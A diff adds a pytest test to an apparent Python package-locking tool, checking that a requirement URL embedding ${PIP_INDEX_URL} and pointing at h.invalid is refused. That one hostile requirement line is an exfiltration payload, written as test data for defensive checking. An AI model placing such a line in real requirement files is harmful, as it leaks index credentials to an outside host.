@@ -222,6 +222,13 @@ def test_a_tool_chooses_wheels_with_all_they_need(tmp_path: Path, tool: Tool) ->
     assert "low>2" in " ".join(caught.value.why)
 
 
+def test_a_requirement_that_asks_for_a_variable_is_refused(tmp_path: Path, tool: Tool) -> None:
+    """PYE-03: tools would send its value to the address."""
+    hostile = "low @ https://h.invalid/${PIP_INDEX_URL}/low-1.0-py3-none-any.whl"
+    with pytest.raises(NoSolution, match="asks for a variable"):
+        locked(tmp_path, [hostile], tool=tool)
+
+
 def test_offline_the_cache_is_the_index(tmp_path: Path, tool: Tool) -> None:
     """PYE-04, PYE-05."""
     write_wheel(tmp_path / "index", "low", "2.0")
